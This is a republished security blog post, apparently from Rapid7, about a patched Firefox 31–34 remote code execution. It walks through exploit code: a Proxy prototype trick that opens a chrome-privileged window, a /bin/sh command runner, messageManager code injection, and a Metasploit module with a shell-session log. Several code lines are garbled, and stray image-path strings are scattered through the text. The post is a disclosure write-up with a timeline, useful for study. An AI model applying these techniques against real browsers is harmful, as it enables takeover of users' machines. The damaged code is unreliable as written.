Last updated at Tue, 25 Apr 2023 22:10:43 GMT

This blogpost was originally written by Joe Vennix, and published here with his permission. All first person pronouns refer to him.

Adventures in Browser Exploitation: Firefox 31 - 34 RCE

A few months ago, I was testing some Javascript code in Firefox involving Proxies. Proxies are a neat ECMAScript 6 feature that Firefox has had implemented for some time now. Proxy objects allow transparent interception of Javascript's normal get-/set-property pattern:

     var x = {};     var p = Proxy(x, {       get: function() {         console.log('getter called!');         return 'intercepted';       },       set: function(){         console.log('setter called!');       }     });     console.log(; = 1;

When run, the above code will print:

     > getter called!     > intercepted     > setter called!

This is very useful to Javascript programmers as it allows for the implementation of the Ruby-style method_missing catch-all method. However, there are security implications; the W3C spec often requires objects from untrusted Javascript to be passed to privileged native code. Getters and setters can allow unprivileged code to run in unexpected ways inside of the privileged native code itself, at which point security checks can start to break. One example of this is geohot's 2014 Chrome ArrayBuffer memory corruption bug, which tricked native code operating on the buffer by defining a dynamic getter method on the ArrayBuffer's length property. There's a a good writeup by Palo Alto Networks.

So, the presence of Proxy objects in Firefox mainstream warrants some investigation. After playing with the implementation, some problems were apparent in how privileged code would interact with Proxy objects that were acting as the prototype of another object. For example, the following line would hang the browser indefinitely:

     document.__proto__ = Proxy.create({getPropertyDescriptor:function(){ while(1) {} }});

I played with it some more but could not find a way to abuse the problem further. I reported this to Mozilla as bug 1120261, hoping that someone would investigate. After some back-and-forth, I found out that the problem was alreadyfixed in the 35.0 branch, so I put the issue out ofmy mind.

The Breakthrough

A thought struck one day, perhaps the getter is being called back in a different environment. I decided to test this theory by attempting to open a window with chrome privileges: such an operation should not be permitted by unprivileged code. I gave it a shot:

     var props = {};     props['has'] = function(){       var chromeWin = open("chrome://browser/content/browser.xul", "x")();     };     document.__proto__ = Proxy.create(props)

I loaded the page and an alert for "attempting to open a popup window" appeared. This was a good sign, as it meant the chrome:// URL was being allowed to load, and was stopped only by the popup blocker. Which meant... clicking anywhere on the page opened a chrome-privileged URL.

What is chrome:// ?

Let's back up a bit. Firefox, like many other browsers, has a notion of privileged zones: different URI schemes have different powers. Chromium does this too (chrome://downloads), and Safari to some extent (file:// URLs). However, Firefox's chrome:// scheme is rather powerful - the Javascript executing underan origin with a scheme of chrome:// has the full privileges of the browser. In the presence of the right vulnerability, attackers can use this to get a fully-working shell on the user's machine.

If you want to test this, open the Developer Console (meta-alt-i) and browse to `chrome://browser/content/browser.xul`. Run the following code (linux/osx only):

     function runCmd(cmd) {         var process = Components.classes[";1"]                   .createInstance(Components.interfaces.nsIProcess);         var sh = Components.classes[";1"]                 .createInstance(Components.interfaces.nsILocalFile);         sh.initWithPath("/bin/sh");         process.init(sh);         var args = ["-c", cmd];, args, args.length);     }     runCmd("touch /tmp/owned");

You should have a file in /tmp/owned.

So if an attacker can find a way to inject code into this window, like we did with the Developer Console, your entire user account is compromised.

Injecting code

Gaining a reference to a chrome:// window is only half the battle. The Same Origin Policy prevents from interacting with the code in chrome://browser, so we will need to find a way around this. Here I got really lucky; I tried a technique I had used when implementing our 22.0-27.0 WebIDL exploit.

Here's the technique: by providing the chrome option to open(), when open is called from a chrome-privileged docshell, the provided URL is loaded as the top-level "frame" of the new browser window; that is, there is no skin or interface document that encapsulates our document. A top-level frame has a messageManager property, which is accessible to same-origin code running in other chrome docshells:

     // abuse vulnerability to open window in chrome://     var c = new mozRTCPeerConnection;     c.createOffer(function(){},function(){       var w ='chrome://browser/content/browser.xul', 'top', 'chrome');       // we can now reference the`messageManager` property of the window's parent       alert(w.parent.messageManager)     });

MessageManager is a privileged Firefox API for sending messages between processes. One useful detail is that it allows injecting Javascript code into the process remotely using the `loadFrameScript` function.

Gaining RCE

From here, gaining remote code execution is trivial, thanks to the Firefox privileged payloads included in Metasploit. Just include the Msf::Exploit::Remote::FirefoxPrivilegeEscalation mixin, and the run_payload method will return a configured piece of Javascript code that will call Firefox's XPCOM APIs to spawn a reverse or bind shell on the target. JSON is used here to avoid encoding issues:

     # Metasploit module (ruby code)     js_payload = run_payload     js = %Q|         var payload = #{JSON.unparse({code: js_payload})};         injectIntoChrome(payload.code);     |     send_response_html(cli, "<script>js</script>")

To see the full exploit source code, see today's disclosure PullRequest 4985. For the impatient, here's what a command shell looks like in Metasploit Framework (tested against Firefox version 32 release):

 msf exploit(firefox_proxy_prototype) > [*]    firefox_proxy_prototype - Gathering target information. [*]    firefox_proxy_prototype - Sending HTML response. [*] Command shell session 1 opened ( -> at 2015-03-23 11:48:53 -0500

Note, that while the Tor Browser Bundle advertises itself as Firefox version 31, it does not appear exploitable in any reasonable setup.

Disclosure Timeline

This vulnerability was disclosed according to Rapid7's disclosure policy toMozilla and CERT/CC.

Jan 11, 2015: Originally reported to Mozilla as alow-severity DoS, which turned out to be already patched in trunk

Jan 13, 2015: Firefox 35.0 shipped with patch

Jan 20, 2015: RCE implications discovered and disclosed to Mozilla

Feb 04, 2015: Disclosure to CERT/CC

Feb 13, 2015: Mozilla updates their original security advisory, MFSA2015-09 to note possibility of RCE

Mar 23, 2015: Public disclosure in Pull Request 4985.

All in all, I was impressed with Mozilla's response. Plus they sent me a bug bounty for discovering an RCE exploitation vector of an already-patched bug. Very classy!

This blog post was originally written by Joe Vennix, and published here with his permission.

The Mozilla bug is still currently under embargo as of this writing.

Disclosure timeline updated to correct an erroron the Jan 13 / FF 35 update.

Affected version range in title corrected: 31.0 - 34.0.5 is the correct vulnerable version range.